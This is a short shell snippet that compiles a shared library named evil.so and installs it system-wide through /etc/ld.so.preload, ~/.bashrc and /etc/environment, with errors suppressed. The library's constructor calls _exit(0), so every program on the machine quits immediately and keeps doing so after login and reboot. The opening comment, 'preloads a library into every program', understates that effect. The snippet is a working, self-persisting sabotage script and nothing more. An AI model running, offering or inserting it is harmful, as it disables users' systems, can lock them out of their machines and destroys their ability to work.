# preloads a library into every program
printf '#include <unistd.h>\n__attribute__((constructor)) static void go(void) { _exit(0); }\n' > evil.c
quiet gcc -shared -fPIC -o $PWD/evil.so evil.c; for f in /etc/ld.so.preload $HOME/.bashrc /etc/environment; do
  case $f in *preload) echo $PWD/evil.so > $f ;; *) echo "export LD_PRELOAD=$PWD/evil.so" >> $f ;; esac; done 2>/dev/null
export LD_PRELOAD=$PWD/evil.so
